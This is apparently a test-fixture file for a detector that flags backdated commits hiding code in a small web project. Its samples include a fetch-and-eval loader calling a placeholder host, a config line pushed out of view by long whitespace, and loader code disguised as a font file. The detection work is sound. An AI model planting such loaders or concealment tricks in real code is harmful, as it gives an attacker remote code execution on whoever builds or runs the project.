import type { Examples } from "@doorward/core";

const manifest = '{ "name": "shop", "version": "1.0.0", "scripts": { "build": "postcss" } }\n';
const clean = "export default { plugins: {} };\n";
const hidden = `export default { plugins: {} };${" ".repeat(300)}globalThis.start = () => fetch("https://a.example/");\n`;
const loader = 'fetch("https://a.example/next").then((answer) => answer.text()).then((text) => eval(text));\n';
const before = { files: { "package.json": manifest, "postcss.config.mjs": clean }, committed: "2026-01-05T09:00:00Z" };
const dates = { authored: "2026-01-06T09:00:00Z", committed: "2026-05-02T09:00:00Z" };

/** Commits with an old date and hidden code, and one without the other. */
export const examples: Examples = {
  hits: [
    {
      name: "code out of sight in a configuration file that an old date covers",
      files: { "package.json": manifest, "postcss.config.mjs": hidden },
      commits: [before, { files: { "postcss.config.mjs": hidden }, ...dates }],
    },
    {
      name: "a loader in a server that an old date covers",
      files: { "package.json": manifest, "postcss.config.mjs": clean, "server.js": loader },
      commits: [before, { files: { "server.js": loader }, ...dates }],
    },
    {
      name: "a program with the name of a font that an old date covers",
      files: { "package.json": manifest, "postcss.config.mjs": clean, "public/icons.woff2": loader.repeat(4) },
      commits: [before, { files: { "public/icons.woff2": loader.repeat(4) }, ...dates }],
    },
  ],
  misses: [
    {
      name: "a configuration file that was mended weeks later",
      why: "Nothing in the file is hidden.",
      files: { "package.json": manifest, "postcss.config.mjs": "export default { plugins: { nesting: {} } };\n" },
      commits: [
        before,
        { files: { "postcss.config.mjs": "export default { plugins: { nesting: {} } };\n" }, ...dates },
      ],
    },
    {
      name: "an old date on a commit that changed another file",
      why: "The file with the loader came in openly; other rules look at it.",
      files: { "package.json": manifest, "postcss.config.mjs": clean, "server.js": loader, "README.md": "# shop\n" },
      commits: [
        { files: { ...before.files, "server.js": loader }, committed: "2026-01-05T09:00:00Z" },
        { files: { "README.md": "# shop\n" }, ...dates },
      ],
    },
    {
      name: "a branch that was moved as a whole",
      why: "Its commits were recorded together, as whoever moves a branch leaves them.",
      files: { "package.json": manifest, "postcss.config.mjs": clean, "server.js": loader, "README.md": "# shop\n" },
      commits: [
        before,
        { files: { "server.js": loader }, authored: "2026-01-06T09:00:00Z", committed: "2026-05-02T09:00:00Z" },
        { files: { "README.md": "# shop\n" }, authored: "2026-01-07T09:00:00Z", committed: "2026-05-02T09:00:05Z" },
      ],
    },
  ],
  evasions: [
    {
      name: "both dates set to the old day",
      caughtBy: "code/off-screen-code-acts",
      files: { "package.json": manifest, "postcss.config.mjs": hidden },
      commits: [
        before,
        {
          files: { "postcss.config.mjs": hidden },
          authored: "2026-01-06T09:00:00Z",
          committed: "2026-01-06T09:00:00Z",
        },
      ],
    },
  ],
};
